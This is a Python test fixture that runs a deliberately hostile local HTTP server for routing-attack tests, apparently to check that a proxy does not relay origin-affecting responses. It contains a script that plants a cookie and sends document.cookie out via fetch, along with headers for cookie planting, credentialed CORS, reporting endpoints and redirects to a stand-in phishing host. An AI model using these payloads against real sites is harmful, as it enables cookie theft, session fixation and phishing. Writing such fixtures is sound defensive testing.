"""A malicious "domain" for the routing attack tests: a bare HTTP server that records every
request's headers and answers with what would act on the network's origin if relayed as is.

Run as `python hostile_domain.py PORT LOG`: each request becomes one JSON line in LOG.

- `/healthz`: 200, so the test can wait for it.
- `/page`: an HTML page with a script that reads and writes cookies, and a `Set-Cookie`.
- `/untyped`: the same script with no `Content-Type` at all, for a browser to sniff.
- anything else: a JSON answer carrying `Set-Cookie` and every other header that acts on an
  origin (`Clear-Site-Data`, reporting, CORS, a redirect).
"""

from __future__ import annotations

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

SCRIPT = b"<script>document.cookie = 'planted=1; path=/'; fetch('/x?c=' + document.cookie)</script>"
PLANTING = "planted=1; Path=/"
ORIGIN_HEADERS = {
    "Set-Cookie": PLANTING,
    "Clear-Site-Data": '"cookies", "storage"',
    "NEL": '{"report_to": "grab", "max_age": 86400, "include_subdomains": true}',
    "Report-To": '{"group": "grab", "max_age": 86400, "endpoints": [{"url": "http://x.invalid/"}]}',
    "Access-Control-Allow-Origin": "http://x.invalid",
    "Access-Control-Allow-Credentials": "true",
    "Location": "http://x.invalid/phish",
    "Refresh": "0; url=http://x.invalid/phish",
    "Content-Security-Policy": "script-src *",
}


class Handler(BaseHTTPRequestHandler):
    log_path: Path

    def _answer(self) -> None:
        with self.log_path.open("a") as log:
            log.write(json.dumps({"path": self.path, "headers": dict(self.headers.items())}) + "\n")
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        if self.path == "/healthz":
            self._send(200, {"Content-Type": "application/json"}, b'{"status": "ok"}')
        elif self.path == "/page":
            html = {"Content-Type": "text/html; charset=utf-8", "Set-Cookie": PLANTING}
            self._send(200, html, SCRIPT)
        elif self.path == "/untyped":
            self._send(200, {"Set-Cookie": PLANTING}, SCRIPT)
        else:
            body = json.dumps({"email": "ds@example.org"}).encode()
            self._send(200, {"Content-Type": "application/json", **ORIGIN_HEADERS}, body)

    def _send(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_DELETE = _answer

    def log_message(self, format: str, *args: object) -> None:
        pass  # the JSON lines are the log


if __name__ == "__main__":
    Handler.log_path = Path(sys.argv[2])
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
